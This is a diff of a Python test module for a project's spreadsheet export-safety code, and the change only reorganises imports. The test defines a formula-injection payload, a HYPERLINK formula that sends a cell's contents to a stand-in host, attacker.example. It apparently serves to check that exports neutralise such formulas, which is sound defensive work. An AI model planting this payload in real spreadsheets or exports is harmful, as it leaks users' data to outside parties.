@@ -13,12 +13,12 @@ import re
 import pytest
 from openpyxl import load_workbook
 
-from commune.core.dossier import Dossier
 from commune.core.export_safety import csv_value, looks_like_formula
+from commune.dossiers.models import Dossier
 from commune.extensions import db
 from tests.factories import make_dossier, make_procedure, make_user
+from tests.journeys import DETAILS, upload
 from tests.photos import images
-from tests.submissions.conftest import DETAILS, upload
 
 HYPERLINK = '=HYPERLINK("http://attacker.example/?d="&B2,"Xem")'
 VILLAGERS = [
